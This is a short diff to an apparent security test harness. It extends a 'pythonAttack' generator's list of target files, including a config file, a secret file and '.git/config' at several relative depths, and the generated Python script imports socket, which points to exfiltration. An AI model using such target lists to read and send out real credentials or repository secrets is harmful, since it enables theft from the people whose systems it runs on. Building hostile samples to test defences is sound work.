@@ -82,6 +82,9 @@ export function pythonAttack(world: HostileWorld, name: string): string {
     join(home, ".eval-skills/config.yaml"),
     join(outside, "secret.txt"),
     join(clone, ".git/config"),
+    ".git/config",
+    "../.git/config",
+    "../../.git/config",
   ];
   return `${pythonMarker(world, name)}
 import glob, socket
